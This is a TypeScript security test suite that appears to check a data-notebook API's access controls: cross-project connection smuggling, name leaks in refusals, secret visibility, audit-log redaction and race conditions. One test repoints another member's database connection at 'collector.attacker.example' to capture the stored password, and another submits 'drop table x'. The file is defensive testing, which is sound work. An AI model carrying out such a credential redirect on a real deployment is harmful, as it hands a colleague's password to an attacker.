import { randomUUID } from 'node:crypto';
import {
  cells,
  connectionCredentialsContext,
  connections,
  projectConnections,
  projectSecrets,
} from '@quarry/db/schema';
import { TRPCError } from '@trpc/server';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  groupIn,
  projectIn,
  refusal,
  exampleSettings as settings,
  sqlCellIn,
  uniqueName,
} from '../testing/fixtures';
import { type ApiHarness, createApiHarness } from '../testing/harness';
import { projectConnection, rawConnection, workspaceConnection } from './attack-kit';

let h: ApiHarness;

beforeAll(async () => {
  h = await createApiHarness({ orders: 10 });
}, 60_000);
afterAll(() => h?.close());

async function cellConnection(cellId: string) {
  const [row] = await h.database.db.select({ c: cells.connectionId }).from(cells).where(eq(cells.id, cellId));
  return row?.c ?? null;
}

/** Every string a refusal carries: its message, its Quarry error, and a validation error's issues. */
function everything(error: unknown): string {
  if (!(error instanceof TRPCError)) return String(error);
  const cause = error.cause as { issues?: unknown } | undefined;
  return JSON.stringify({
    message: error.message,
    quarry: (error as { quarry?: unknown }).quarry,
    issues: cause?.issues,
  });
}

async function failureText(promise: Promise<unknown>) {
  try {
    await promise;
  } catch (error) {
    return everything(error);
  }
  throw new Error('expected a refusal, the call succeeded');
}

describe('smuggling a connection where it does not belong', () => {
  it('refuses "Share with workspace" to a Manager and an Editor, creating nothing', async () => {
    const projectId = await projectIn(h, h.a, [
      { userId: h.a.users.editor.id, permission: 'can_edit' },
      { userId: h.a.users.manager.id, permission: 'full_access' },
    ]);
    for (const role of ['editor', 'manager'] as const) {
      const name = uniqueName(`shared-by-${role}`);
      const refused = await refusal(
        (await h.as(h.a, role)).connections.createForProject({
          projectId,
          name,
          kind: 'postgres',
          settings: settings(),
          secrets: { password: randomUUID() },
          shareWithWorkspace: true,
        }),
      );
      expect(refused.code, role).toBe('FORBIDDEN');
      const rows = await h.database.db.select().from(connections).where(eq(connections.name, name));
      expect(rows, role).toEqual([]);
    }
  });

  it('refuses importing a project connection into another project the same Editor can edit', async () => {
    const first = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const second = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const own = await projectConnection(h, h.a, 'editor', first);
    const editor = await h.as(h.a, 'editor');
    expect(
      (await refusal(editor.connections.importIntoProject({ projectId: second, connectionId: own.id })))
        .quarry,
    ).toBe('connections.project_scoped');
    // Not even an Admin can carry it over.
    expect(
      (
        await refusal(
          (
            await h.as(h.a, 'admin')
          ).connections.importIntoProject({ projectId: second, connectionId: own.id }),
        )
      ).quarry,
    ).toBe('connections.project_scoped');
    const links = await h.database.db
      .select()
      .from(projectConnections)
      .where(eq(projectConnections.connectionId, own.id));
    expect(links.map((l) => l.projectId)).toEqual([first]);
    // Nor point a cell of the second project at it.
    const cellId = await sqlCellIn(h, h.a, second);
    expect(
      (
        await refusal(
          editor.projects.updateCell({ projectId: second, cellId, source: 'select 1', connectionId: own.id }),
        )
      ).quarry,
    ).toBe('connections.not_in_project');
    expect(await cellConnection(cellId)).toBeNull();
  });

  it('refuses importing a workspace connection outside the caller’s groups, one without Can query, and a draft', async () => {
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const finance = await groupIn(h, h.a, [h.a.users.manager.id]);
    const admin = await h.as(h.a, 'admin');
    const noAccess = await workspaceConnection(h, h.a);
    await admin.connections.updatePermissions({
      connectionId: noAccess.id,
      groupsWithAccess: [finance],
      canQuery: null,
      canViewResults: null,
      canRefreshSchema: 'can_query',
    });
    const noQuery = await workspaceConnection(h, h.a);
    await admin.connections.updatePermissions({
      connectionId: noQuery.id,
      groupsWithAccess: ['workspace'],
      canQuery: [finance],
      canViewResults: null,
      canRefreshSchema: 'can_query',
    });
    const draft = await admin.connections.create({
      name: uniqueName('draft'),
      kind: 'postgres',
      settings: { host: 'db.example.com' },
      draft: true,
    });
    const editor = await h.as(h.a, 'editor');
    expect(
      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: noAccess.id }))).quarry,
    ).toBe('access.no_asset_access');
    expect(
      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: noQuery.id }))).quarry,
    ).toBe('access.no_can_query');
    expect(
      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry,
    ).toBe('connections.draft');
    // An Admin cannot import a draft either: a run on it could only fail.
    expect(
      (await refusal(admin.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry,
    ).toBe('connections.draft');
    const links = await h.database.db
      .select()
      .from(projectConnections)
      .where(eq(projectConnections.projectId, projectId));
    expect(links).toEqual([]);
  });

  it("refuses a cell connection the project does not import, another project's, or another workspace's", async () => {
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const cellId = await sqlCellIn(h, h.a, projectId);
    const notImported = await workspaceConnection(h, h.a);
    const editor = await h.as(h.a, 'editor');
    for (const connectionId of [notImported.id, h.a.connectionId, h.b.connectionId]) {
      expect(
        (await refusal(editor.projects.updateCell({ projectId, cellId, source: 'select 1', connectionId })))
          .quarry,
        connectionId,
      ).toBe('connections.not_in_project');
    }
    // A cell of another project named with this project's id is not found either.
    expect(
      (
        await refusal(
          editor.projects.updateCell({
            projectId,
            cellId: h.a.cellId,
            source: 'drop table x',
            connectionId: null,
          }),
        )
      ).code,
    ).toBe('NOT_FOUND');
    expect(await cellConnection(cellId)).toBeNull();
    expect(await cellConnection(h.a.cellId)).toBe(h.a.connectionId);
  });

  it("hides a project connection's name from an Editor who cannot open its project, when they import it by id", async () => {
    // The gate answers NOT_FOUND to someone the project is closed to ("the connection does not exist");
    // importing it by id into a project of their own answers with its name instead.
    const hiddenProject = await projectIn(h, h.a, [{ userId: h.a.users.manager.id, permission: 'can_edit' }]);
    const hidden = await projectConnection(h, h.a, 'manager', hiddenProject);
    const mine = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const editor = await h.as(h.a, 'editor');
    expect((await refusal(editor.connections.get({ connectionId: hidden.id }))).code).toBe('NOT_FOUND');
    const refused = await refusal(
      editor.connections.importIntoProject({ projectId: mine, connectionId: hidden.id }),
    );
    expect(refused.text).not.toContain(hidden.name);
    expect(refused.code).toBe('NOT_FOUND');
  });

  it("hides a project connection's name from an Editor who cannot open its project, when they remove it by id from a project of theirs", async () => {
    // The sibling of the import above (fixed in b2b7c4a): removeFromProject loads the connection
    // by id in the workspace and refuses a project connection with "'<name>' is this project's own
    // connection", whoever asks.
    const hiddenProject = await projectIn(h, h.a, [{ userId: h.a.users.manager.id, permission: 'can_edit' }]);
    const hidden = await projectConnection(h, h.a, 'manager', hiddenProject);
    const mine = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const editor = await h.as(h.a, 'editor');
    const refused = await refusal(
      editor.connections.removeFromProject({ projectId: mine, connectionId: hidden.id }),
    );
    expect(refused.text).not.toContain(hidden.name);
    expect(refused.code).toBe('NOT_FOUND');
  });
});

describe('stored credentials redirected', () => {
  it("does not let a second editor of a project point another member's project connection at a new host while keeping the stored password", async () => {
    // The Manager's project connection holds the Manager's own warehouse password. The Editor, who
    // shares Can edit on the project but never had that password, changes only the host and leaves
    // the password blank ("keeps the stored one"): every test and run then sends the Manager's
    // password to the host the Editor chose (see apps/api/src/attacks4/runner.attack.test.ts).
    const projectId = await projectIn(h, h.a, [
      { userId: h.a.users.manager.id, permission: 'can_edit' },
      { userId: h.a.users.editor.id, permission: 'can_edit' },
    ]);
    const own = await projectConnection(h, h.a, 'manager', projectId);
    const editor = await h.as(h.a, 'editor');
    let refused = false;
    try {
      await editor.connections.update({
        connectionId: own.id,
        name: own.name,
        settings: settings({ host: 'collector.attacker.example', sslMode: 'verify-full' }),
        secrets: { password: '' },
      });
    } catch {
      refused = true;
    }
    const row = await rawConnection(h, own.id);
    const opened = row?.credentials
      ? h.vault.openText(row.credentials, connectionCredentialsContext(h.a.workspaceId, own.id))
      : null;
    const storedPassword = opened?.ok
      ? (JSON.parse(opened.value) as { password?: string }).password
      : undefined;
    // Secure: either the edit is refused, or a new host drops the stored password (it must be typed again).
    if (!refused) {
      expect(row?.settings).toMatchObject({ host: 'collector.attacker.example' });
      expect(storedPassword === own.password).toBe(false);
    } else {
      expect(row?.settings).toMatchObject({ host: 'db.example.com' });
    }
  });
});

describe('shared secrets', () => {
  it('shows a Viewer and an Editor no secret outside their groups, and refuses the Editor importing one', async () => {
    const finance = await groupIn(h, h.a, [h.a.users.manager.id]);
    const admin = await h.as(h.a, 'admin');
    const restricted = await admin.secrets.create({
      name: `fin_${randomUUID().slice(0, 8)}`,
      value: randomUUID(),
      groupsWithAccess: [finance],
    });
    for (const role of ['viewer', 'editor', 'guest', 'explorer'] as const) {
      const listed = await (await h.as(h.a, role)).secrets.list();
      expect(
        listed.map((s) => s.id),
        role,
      ).not.toContain(restricted.id);
    }
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const editor = await h.as(h.a, 'editor');
    const refused = await refusal(editor.secrets.importIntoProject({ projectId, secretId: restricted.id }));
    expect(refused.quarry).toBe('access.no_asset_access');
    expect(
      await h.database.db.select().from(projectSecrets).where(eq(projectSecrets.projectId, projectId)),
    ).toEqual([]);
    // Viewer on the project: cannot list the project's secrets, nor usage (Admins only).
    const viewerProject = await projectIn(h, h.a, [{ userId: h.a.users.viewer.id, permission: 'can_view' }]);
    const viewer = await h.as(h.a, 'viewer');
    expect((await refusal(viewer.secrets.forProject({ projectId: viewerProject }))).code).toBe('FORBIDDEN');
    expect((await refusal(editor.secrets.usage({ secretId: restricted.id }))).code).toBe('FORBIDDEN');
  });

  it('refuses duplicating a project to an Editor outside the groups of a secret it imports', async () => {
    const finance = await groupIn(h, h.a, [h.a.users.manager.id]);
    const admin = await h.as(h.a, 'admin');
    const restricted = await admin.secrets.create({
      name: `dup_${randomUUID().slice(0, 8)}`,
      value: randomUUID(),
      groupsWithAccess: [finance],
    });
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    await admin.secrets.importIntoProject({ projectId, secretId: restricted.id });
    const editor = await h.as(h.a, 'editor');
    const refused = await refusal(editor.sharing.duplicate({ projectId, name: uniqueName('copy') }));
    expect(refused.code).toBe('FORBIDDEN');
    const copies = await h.database.db
      .select()
      .from(projectSecrets)
      .where(eq(projectSecrets.secretId, restricted.id));
    expect(copies.map((c) => c.projectId)).toEqual([projectId]);
  });
});

describe('write-only values in refusals and the audit log', () => {
  it('never echoes a secret value put in the wrong field, too long, or sent with an unknown kind', async () => {
    const admin = await h.as(h.a, 'admin');
    const value = randomUUID().replaceAll('-', '');
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const editor = await h.as(h.a, 'editor');
    const attempts: Array<[string, () => Promise<unknown>]> = [
      [
        'password as port',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings({ port: value }),
            secrets: {},
          }),
      ],
      [
        'password as sslMode',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings({ sslMode: value }),
            secrets: {},
          }),
      ],
      [
        'password as host with a slash',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings({ host: `/${value}` }),
            secrets: {},
          }),
      ],
      [
        'password in an unknown setting',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: { ...settings(), options: value },
            secrets: {},
          }),
      ],
      [
        'password too long',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings(),
            secrets: { password: value.repeat(40) },
          }),
      ],
      [
        'password in a database name too long',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings({ database: value.repeat(3) }),
            secrets: {},
          }),
      ],
      [
        'password with an unknown kind',
        () =>
          admin.connections.create({
            name: uniqueName('p'),
            kind: 'oracle',
            settings: settings(),
            secrets: { password: value },
          }),
      ],
      [
        'project connection, password as port',
        () =>
          editor.connections.createForProject({
            projectId,
            name: uniqueName('p'),
            kind: 'postgres',
            settings: settings({ port: value }),
            secrets: { password: value },
          }),
      ],
      [
        'testNew, password as sslMode',
        () =>
          admin.connections.testNew({
            kind: 'postgres',
            settings: settings({ sslMode: value }),
            secrets: { password: value },
          }),
      ],
      [
        'secret value too long',
        () => admin.secrets.create({ name: `v_${randomUUID().slice(0, 6)}`, value: value.repeat(700) }),
      ],
      ['secret value as name', () => admin.secrets.create({ name: `-${value}`, value })],
    ];
    for (const [name, attempt] of attempts) {
      const text = await failureText(attempt());
      expect(text, name).not.toContain(value);
    }
  });

  it('keeps every password and secret value out of the audit log and its export', async () => {
    const admin = await h.as(h.a, 'admin');
    const created = await workspaceConnection(h, h.a);
    const replacement = randomUUID();
    await admin.connections.update({
      connectionId: created.id,
      name: created.name,
      settings: settings({ port: 6543 }),
      secrets: { password: replacement },
    });
    const secretValue = randomUUID();
    const secret = await admin.secrets.create({
      name: `aud_${randomUUID().slice(0, 8)}`,
      value: secretValue,
    });
    const nextValue = randomUUID();
    await admin.secrets.update({
      secretId: secret.id,
      name: secret.name,
      value: nextValue,
      groupsWithAccess: ['workspace'],
    });
    await admin.connections.delete({ connectionId: created.id });
    await admin.secrets.delete({ secretId: secret.id });
    const page = JSON.stringify(await admin.audit.list({ limit: 500 }));
    const exported = JSON.stringify(await admin.audit.export({}));
    for (const value of [created.password, replacement, secretValue, nextValue]) {
      expect(page).not.toContain(value);
      expect(exported).not.toContain(value);
    }
    expect(page).toContain('connection.update');
    expect(page).toContain('secret.update');
  });
});

describe('races', () => {
  it('keeps connection names unique in a workspace when creates, project creates and renames race', async () => {
    // Held since ea4c99b (a per-workspace lock around the name check); this was a hole when found.
    const admin = await h.as(h.a, 'admin');
    const editor = await h.as(h.a, 'editor');
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const name = uniqueName('race');
    const renamed = await workspaceConnection(h, h.a);
    const outcomes = await Promise.allSettled([
      ...Array.from({ length: 3 }, () =>
        admin.connections.create({
          name,
          kind: 'postgres',
          settings: settings(),
          secrets: { password: randomUUID() },
        }),
      ),
      ...Array.from({ length: 2 }, () =>
        editor.connections.createForProject({
          projectId,
          name,
          kind: 'postgres',
          settings: settings(),
          secrets: { password: randomUUID() },
        }),
      ),
      admin.connections.update({ connectionId: renamed.id, name, settings: settings() }),
    ]);
    const rows = await h.database.db
      .select({ id: connections.id })
      .from(connections)
      .where(and(eq(connections.workspaceId, h.a.workspaceId), eq(connections.name, name)));
    expect(rows).toHaveLength(1);
    expect(outcomes.filter((o) => o.status === 'fulfilled')).toHaveLength(1);
    for (const outcome of outcomes) {
      if (outcome.status === 'rejected')
        expect(everything(outcome.reason)).toContain('connections.name_taken');
    }
  });

  it('keeps one default connection when two Admins set different defaults at once, answering each with a typed result', async () => {
    const admin = await h.as(h.a, 'admin');
    const first = await workspaceConnection(h, h.a);
    const second = await workspaceConnection(h, h.a);
    for (let round = 0; round < 5; round++) {
      const outcomes = await Promise.allSettled([
        admin.connections.setDefault({ connectionId: first.id }),
        admin.connections.setDefault({ connectionId: second.id }),
        admin.connections.setDefault({ connectionId: h.a.connectionId }),
      ]);
      for (const outcome of outcomes) {
        if (outcome.status === 'rejected') {
          // A loser may be refused, but with a code, never an internal error.
          expect(everything(outcome.reason)).not.toContain('INTERNAL_SERVER_ERROR');
        }
      }
      const defaults = await h.database.db
        .select({ id: connections.id })
        .from(connections)
        .where(and(eq(connections.workspaceId, h.a.workspaceId), eq(connections.isDefault, true)));
      expect(defaults).toHaveLength(1);
    }
  });

  it('leaves no cell pointing at a connection its project no longer imports when an edit races the removal', async () => {
    // updateCell checks the import and then writes the cell; removeFromProject deletes the import and
    // clears the cells using it. Neither locks what the other reads, so the cell can be written after
    // the clearing: it then names a connection the project does not import. (The runner refuses
    // to run it, run.connection_not_in_project, so this is integrity, not data.)
    const admin = await h.as(h.a, 'admin');
    const editor = await h.as(h.a, 'editor');
    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
    const cellId = await sqlCellIn(h, h.a, projectId);
    const shared = await workspaceConnection(h, h.a);
    const stranded: number[] = [];
    for (let round = 0; round < 30; round++) {
      await admin.connections.importIntoProject({ projectId, connectionId: shared.id });
      await Promise.allSettled([
        editor.projects.updateCell({ projectId, cellId, source: 'select 1', connectionId: shared.id }),
        admin.connections.removeFromProject({ projectId, connectionId: shared.id }),
      ]);
      const links = await h.database.db
        .select()
        .from(projectConnections)
        .where(
          and(eq(projectConnections.projectId, projectId), eq(projectConnections.connectionId, shared.id)),
        );
      if ((await cellConnection(cellId)) === shared.id && links.length === 0) stranded.push(round);
      // Reset for the next round.
      await h.database.db.update(cells).set({ connectionId: null }).where(eq(cells.id, cellId));
      await h.database.db.delete(projectConnections).where(eq(projectConnections.projectId, projectId));
    }
    expect(stranded).toEqual([]);
  });
});
